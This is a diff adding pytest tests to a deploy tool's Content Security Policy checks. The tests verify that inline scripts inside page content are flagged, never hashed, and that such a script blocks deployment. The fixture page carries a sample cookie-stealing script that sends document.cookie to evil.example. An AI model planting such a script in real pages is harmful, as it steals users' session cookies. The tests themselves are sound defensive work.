@@ -9,8 +9,11 @@ from pathlib import Path
 
 import pytest
 
+from deploy import DeployError
+from deploy.cli import check_csp
 from deploy.csp import (
     CSP_MAX_LENGTH,
+    content_scripts,
     inline_code,
     main,
     missing_hashes,
@@ -145,3 +148,43 @@ def test_template_csp_lists_no_stale_hashes(built_site: Path) -> None:
     """The template allows no inline script the real site no longer has (keeps the CSP tight)."""
     policy = content_security_policy(load_template())
     assert stale_hashes(policy, site_script_hashes(built_site)) == []
+
+
+NOTES_PAGE = """<!doctype html><html><head>
+<script>__md_scope=new URL(".",location)</script></head><body>
+<article class="md-content__inner md-typeset"><h1>S3</h1>
+<p>text</p><script>fetch("//evil.example/?"+document.cookie)</script></article>
+</body></html>"""
+
+
+def test_a_script_in_a_page_content_is_never_hashed(tmp_path: Path) -> None:
+    """An inline script inside the page's content (from the notes) is found, not hashed."""
+    (tmp_path / "index.html").write_text(NOTES_PAGE)
+    assert site_script_hashes(tmp_path) == {
+        script_hash('__md_scope=new URL(".",location)'): ["index.html"]
+    }
+    assert content_scripts(tmp_path) == {
+        "index.html": ['fetch("//evil.example/?"+document.cookie)']
+    }
+
+
+@pytest.mark.parametrize("action", ["--update", "--check", None])
+def test_the_csp_tool_refuses_a_site_with_a_notes_born_script(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], action: str | None
+) -> None:
+    """--update never adds a notes-born script's hash: it is an error, and the template stays."""
+    site = tmp_path / "site"
+    site.mkdir()
+    (site / "index.html").write_text(NOTES_PAGE)
+    template = tmp_path / "template.yaml"
+    shutil.copy(TEMPLATE_PATH, template)
+    assert main([str(site), "--template", str(template), *([action] if action else [])]) == 1
+    assert "carry an inline script in their content" in capsys.readouterr().err
+    assert template.read_text() == TEMPLATE_PATH.read_text()
+
+
+def test_deploy_refuses_to_publish_a_notes_born_script(tmp_path: Path) -> None:
+    """`make deploy` checks the same: a script in a page's content stops it before AWS."""
+    (tmp_path / "index.html").write_text(NOTES_PAGE)
+    with pytest.raises(DeployError, match=r"1 pages \(e\.g\. index\.html\) carry an inline script"):
+        check_csp(tmp_path, TEMPLATE_PATH)
